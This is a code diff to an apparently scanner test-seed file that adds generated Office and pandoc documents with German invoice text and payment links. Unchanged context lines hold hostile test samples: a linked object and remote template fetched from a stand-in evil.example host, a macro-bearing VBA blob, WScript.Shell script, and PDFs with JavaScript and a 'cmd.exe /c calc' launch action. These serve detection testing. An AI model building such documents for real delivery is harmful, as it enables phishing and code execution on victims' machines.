@@ -7,6 +7,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { testProgram } from '../test/helpers/clamd.ts';
 import { equationObject, oleDocument, oneNoteSection, outlookMessage, powerPointDocument, rtfDocument, webLinkedObject, windowsProgram } from '../test/helpers/files.ts';
+import { excelXlsx, pandocDocument } from '../test/helpers/office.ts';
 import { CIPHERS, encryptedWithQpdf, pdfDocument } from '../test/helpers/pdf.ts';
 import { imageInPdf, qrBlocks, qrBoxes, qrImage, qrMatrix, qrNested, qrPieces } from '../test/helpers/qr.ts';
 import { rar4Archive, rar5Archive } from '../test/helpers/rar.ts';
@@ -93,6 +94,10 @@ export function fileSeeds(): Array<{ name: string; data: Buffer }> {
       ['linked.doc', webLinkedObject('http://evil.example/x.hta')],
       ['section.one', oneNoteSection([windowsProgram(), Buffer.from('<script>WScript.Shell</script>')])],
       ['word.docx', zipArchive([['[Content_Types].xml', '<Types/>'], ['word/document.xml', `<w:document>${text}</w:document>`], ['word/_rels/document.xml.rels', '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'], ['word/vbaProject.bin', oleDocument({ macros: true })]])],
+      ['pandoc.docx', pandocDocument('docx', `# Rechnung\n\n${text}\n\n[Zahlung](https://pay.example.net/a)[^1]\n\n[^1]: Fußnote`)],
+      ['pandoc.odt', pandocDocument('odt', `# Rechnung\n\n${text}\n\n[Zahlung](https://pay.example.net/a)[^1]\n\n[^1]: Fußnote`)],
+      ['pandoc.pptx', pandocDocument('pptx', `# Eins\n\n${text}\n\n# Zwei\n\nhttps://pay.example.net/a`)],
+      ['book.xlsx', excelXlsx([[['Rechnung', 399.99], [text]], [['https://pay.example.net/a']]])],
       ['links.pdf', pdfDocument({ links: ['https://pay.example.net/a', 'http://192.0.2.7/x'], openAction: { javascript: 'app.alert(1)' }, attachments: [{ name: 'run.js', content: 'WScript' }] })],
       ['flat.pdf', pdfDocument({ links: ['https://pay.example.net/a'], objectStreams: false, documentScript: 'this.print()' })],
       ['raw.pdf', pdfDocument({ links: ['https://pay.example.net/a'], escapedNames: true, openAction: { launch: 'cmd.exe', parameters: '/c calc' }, rewrite: false })],
